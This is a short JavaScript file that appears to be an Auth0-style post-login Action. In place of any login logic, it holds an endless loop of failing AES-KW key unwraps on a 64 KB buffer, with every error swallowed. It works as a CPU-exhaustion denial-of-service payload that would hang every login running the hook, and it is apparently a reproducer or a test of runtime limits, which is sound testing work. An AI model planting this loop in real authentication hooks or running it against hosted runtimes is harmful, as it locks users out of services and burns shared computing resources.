exports.onExecutePostLogin = async function (event, api) {
  const { subtle } = require("crypto").webcrypto; const k = await subtle.importKey("raw", new Uint8Array(32), "AES-KW", false, ["unwrapKey"]); for (;;) try { await subtle.unwrapKey("raw", new Uint8Array(65536), k, "AES-KW", "AES-GCM", false, ["encrypt"]); } catch (e) {}
};
